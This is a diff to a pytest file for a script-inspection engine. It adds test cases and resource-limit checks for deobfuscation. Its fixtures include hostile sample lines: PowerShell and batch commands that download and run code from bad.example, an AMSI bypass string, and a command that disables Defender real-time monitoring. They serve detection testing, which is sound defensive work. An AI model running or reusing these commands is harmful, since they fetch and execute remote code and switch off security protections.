@@ -1,6 +1,7 @@
 import base64
 import struct
 import time
+import tracemalloc
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -8,7 +9,7 @@ from typing import Any
 import pytest
 
 from sample_analysis.engines.inspection import Inspection, run
-from sample_analysis.engines.programs import scripts
+from sample_analysis.engines.programs import clear_text, literals, scripts
 
 Examine = Callable[..., Any]
 
@@ -56,6 +57,7 @@ def test_data_that_a_script_decodes_is_a_child(examine: Examine, eicar: bytes) -
         ("a.ps1", "irm http://bad.example/x | iex"),
         ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')"),
         ("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"),
+        ("a.ps1", "#!/bin/sh\nSet-MpPreference -DisableRealtimeMonitoring $true"),
         ("a.bat", '@echo off\r\nset x=power\r\nset y=shell\r\n%x%%y% -nop -c "iwr http://bad.example/a -o a.bin"\r\n'),
         ("a.bat", "@echo off\r\ncurl -s -o %temp%\\a.exe http://bad.example/a.exe && start %temp%\\a.exe\r\n"),
         ("a.js", "var a='W'+'Scr'+'ipt.S'+'hell';var b=new ActiveXObject(a);b['R'+'un']('cmd /c calc');"),
@@ -98,6 +100,16 @@ def test_hidden_or_hostile_commands_are_suspicious(examine: Examine, name: str, 
         ),
         ("old.js", "var x = window.XMLHttpRequest ? 1 : new ActiveXObject('Microsoft.XMLHTTP');\nvar a = 'x' + 'y';\n"),
         ("logo.js", f"var a = 'data:image/png;base64,{base64.b64encode(PNG).decode()}';\nfunction f() {{}}\n"),
+        ("game.bat", '@echo off\r\nset GAME=game.exe\r\nset ARGS=-windowed\r\nstart "" %GAME% %ARGS%\r\n'),
+        ("jre.bat", '@echo off\r\nstart "" /D "%~dp0" %COMSPEC% /c "java.cmd -jar game.jar"\r\n'),
+        ("get.bat", "@echo off\r\nset OUT=tool.zip\r\ncurl -L https://good.example/latest -o %OUT%\r\n"),
+        ("remove.bat", '@echo off\r\nset K=HKLM\\SOFTWARE\\x\\CurrentVersion\r\nreg delete "%K%\\Run" /v Tool /f\r\n'),
+        (
+            "backup.vbs",
+            'Set a = CreateObject("WScript.Shell")\nc = "schtasks /tn Backup /tr b.bat " & _\n  "/create /sc daily"\n',
+        ),
+        ("get.js", 'function f() {}\nconst c = "curl -fsSL https://good.example/latest/" +\n  "tool.zip";\n'),
+        ("sums.js", f"var a = '{base64.b64encode(bytes.fromhex('60ea') + b'1' * 62).decode()}';\nfunction f() {{}}\n"),
         ("run.sh", "#!/bin/sh\nset -e\nmake -e test\ncurl -e https://good.example/ https://good.example/file\n"),
     ],
 )
@@ -129,6 +141,30 @@ def test_hostile_scripts_end(inspection: Callable[..., Inspection], text: str) -
     assert time.process_time() - started < 30
     # Stopped by the clock it would have ended too, whatever its cost.
     assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '"' + "{0}" * 40 + '" -f "' + "A" * 200 + '","x"\n',
+        "chr(65) ",
+        "'+'",
+        "set a=" + "b" * 1000 + "\n" + "%a%" * 1000,
+    ],
+)
+def test_a_text_made_clear_is_little_longer(text: str) -> None:
+    text *= 400_000 // len(text)
+    assert len(clear_text.clear(text)) <= len(text) * 1.1 + clear_text.GROWS_BY
+
+
+def test_a_long_list_of_numbers_takes_little_memory() -> None:
+    text = "(" + "1," * 250_000
+    tracemalloc.start()
+    try:
+        assert list(literals.files(text)) == []
+        assert tracemalloc.get_traced_memory()[1] < 10 * len(text)
+    finally:
+        tracemalloc.stop()
 
 
 def test_what_is_put_together_is_read_and_told(examine: Examine) -> None:
